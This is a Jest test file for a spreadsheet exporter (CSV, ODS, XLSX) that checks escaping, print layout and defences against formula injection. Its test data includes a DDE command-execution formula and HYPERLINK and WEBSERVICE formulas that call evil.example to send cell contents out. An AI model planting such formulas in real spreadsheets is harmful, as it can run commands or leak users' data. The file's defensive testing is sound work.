import { describe, expect, it } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import { csvOf } from './csv.js';
import { odsOf } from './ods.js';
import { columnWidths, type Sheet } from './sheet.js';
import { xlsxOf } from './xlsx.js';

const SHEETS: Sheet[] = [
  {
    name: '總表',
    headings: 1,
    rows: [
      ['項目', '數值'],
      ['路燈 <不亮> & "故障"', 12],
      ['空', null],
      ['𠮷野家', 66.7],
    ],
  },
  { name: '逾期', headings: 0, rows: [['=1+1', '+886', '-5', '@sum', -5]] },
];
const LOCAL_HEADER = { method: 8, nameLength: 26, extraLength: 28, name: 30 };
const STORED = 0;

describe('A report as CSV', () => {
  const text = csvOf(SHEETS).toString('utf8');

  it('says that it is UTF-8, and shows the sheets one below the other', () => {
    expect(text.startsWith('\ufeff總表\r\n項目,數值\r\n')).toBe(true);
    expect(text).toContain('"路燈 <不亮> & ""故障""",12\r\n空,\r\n𠮷野家,66.7\r\n\r\n逾期\r\n');
  });

  it('has none where a semicolon ends a cell, either', () => {
    const rows = [['路燈;=1+1', 'a; "=1+1', 'a;b']];
    const [, line] = csvOf([{ name: '總表', headings: 0, rows }])
      .toString('utf8')
      .split('\r\n');
    expect(line).toBe(`路燈;'=1+1,"a;' ""=1+1",a;b`);
  });

  it('has no cell that starts a formula; a number stays a number', () => {
    expect(text.split('\r\n').at(-2)).toBe(`'=1+1,'+886,'-5,'@sum,-5`);
  });
});

/** What a spreadsheet takes for the beginning of a formula: also typed in full width, as Chinese keyboards do. */
const FORMULAS = [
  ...['=1+1', '+886', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "=WEBSERVICE('https://evil.example')"],
];

describe.each(FORMULAS)('A text that looks like a formula, %j,', formula => {
  const sheets: Sheet[] = [{ name: '總表', headings: 1, rows: [[formula], [formula, 1], ['a', formula]] }];

  it('is text in a CSV, also in a heading, and as the name of a sheet', () => {
    const csv = csvOf([...sheets, { name: formula, headings: 0, rows: [] }]).toString('utf8');
    const inside = formula.replaceAll('"', '""');
    expect(csv.split(inside)).toHaveLength(5);
    expect(csv.split(`'${inside}`)).toHaveLength(5);
  });

  it('is text in an ODS and in an XLSX, which know no formula at all', async () => {
    for (const file of [odsOf(sheets), await xlsxOf(sheets)]) {
      const parts = Object.entries(unzipSync(file)).filter(([path]) => path.endsWith('.xml'));
      const xml = parts.map(([, bytes]) => strFromU8(bytes)).join('');
      expect(xml).not.toMatch(/<f[ >]|table:formula|DDE/);
      expect(xml).toContain(formula.trim().slice(0, 3).replace(/"/g, '&quot;'));
    }
  });
});

describe('A report as ODS', () => {
  const file = odsOf(SHEETS);
  const parts = unzipSync(file);
  const content = strFromU8(parts['content.xml'] as Uint8Array);

  it('begins with its type, uncompressed and without extra fields, as the standard demands', () => {
    const name = file.subarray(
      LOCAL_HEADER.name,
      LOCAL_HEADER.name + file.readUInt16LE(LOCAL_HEADER.nameLength),
    );
    expect(name.toString()).toBe('mimetype');
    expect(file.readUInt16LE(LOCAL_HEADER.method)).toBe(STORED);
    expect(file.readUInt16LE(LOCAL_HEADER.extraLength)).toBe(0);
    expect(strFromU8(parts.mimetype as Uint8Array)).toBe('application/vnd.oasis.opendocument.spreadsheet');
    expect(Object.keys(parts)).toEqual([
      ...['mimetype', 'content.xml', 'styles.xml', 'settings.xml', 'META-INF/manifest.xml'],
    ]);
  });

  it('is printed across, fitted to the width of the paper, with its headings on each page and kept on the screen', () => {
    expect(content).toContain('<table:table table:name="總表" table:style-name="wide1">');
    expect(content).toMatch(/<table:table-header-rows><table:table-row>.*項目.*<\/table:table-header-rows>/);
    const [styles, settings] = ['styles.xml', 'settings.xml'].map(path =>
      strFromU8(parts[path] as Uint8Array),
    );
    expect(styles).toContain('style:print-orientation="landscape"');
    expect(styles).toContain('style:scale-to-X="1" style:scale-to-Y="0"');
    expect(settings).toContain('config:name="總表"><config:config-item config:name="VerticalSplitMode"');
    expect(settings).not.toContain('逾期');
  });

  it('keeps text as text and numbers as numbers', () => {
    expect(content).toContain('office:value-type="float" office:value="66.7"><text:p>66.7</text:p>');
    expect(content).toContain('office:value-type="string"><text:p>=1+1</text:p>');
    expect(content).not.toContain('table:formula');
  });

  it('escapes what XML cannot hold', () => {
    expect(content).toContain('<text:p>路燈 &lt;不亮&gt; &amp; &quot;故障&quot;</text:p>');
    const odd = odsOf([{ name: 'a', headings: 0, rows: [['x\u0000\u0008y\ttab']] }]);
    expect(strFromU8(unzipSync(odd)['content.xml'] as Uint8Array)).toContain('<text:p>xy\ttab</text:p>');
  });
});

describe('A report as XLSX', () => {
  it('keeps text as text and numbers as numbers', async () => {
    const parts = unzipSync(await xlsxOf(SHEETS));
    const sheets = Object.entries(parts).filter(([path]) => path.startsWith('xl/worksheets/sheet'));
    const xml = sheets.map(([, bytes]) => strFromU8(bytes)).join('');
    expect(sheets).toHaveLength(2);
    expect(xml).toContain('<v>66.7</v>');
    expect(xml).not.toContain('<f>');
    const strings = Object.entries(parts)
      .map(([, bytes]) => strFromU8(bytes))
      .join('');
    expect(strings).toContain('=1+1');
    expect(strings).toContain('總表');
  });
});

describe('A sheet', () => {
  const wide = (columns: number): Sheet => ({
    ...{ name: '寬表', headings: 1 },
    rows: [
      Array.from({ length: columns }, () => '一個很長的欄位名稱（%）'),
      Array.from({ length: columns }, () => 1),
    ],
  });

  it.each([
    [17, 1],
    [60, 4],
  ])('of %i columns is printed on %i pages side by side, and its text has lines', async (columns, pages) => {
    const parts = unzipSync(await xlsxOf([wide(columns)]));
    const xml = strFromU8(parts['xl/worksheets/sheet1.xml'] as Uint8Array);
    expect(xml).toContain('<sheetPr><pageSetUpPr fitToPage="1"/></sheetPr><sheetViews>');
    expect(xml).toContain(`orientation="landscape" fitToWidth="${pages}" fitToHeight="0"/>`);
    expect(strFromU8(parts['xl/styles.xml'] as Uint8Array)).toContain('wrapText="1"');
    const content = strFromU8(unzipSync(odsOf([wide(columns)]))['content.xml'] as Uint8Array);
    expect(content).toContain(`table:style-name="wide${pages}"`);
  });
});

describe('A column', () => {
  it('is as wide as its widest text, a Chinese character counting twice, within reason', () => {
    expect(columnWidths({ name: '', headings: 0, rows: [['一二三四五', 'x', '長'.repeat(90)]] })).toEqual([
      11, 8, 60,
    ]);
  });
});
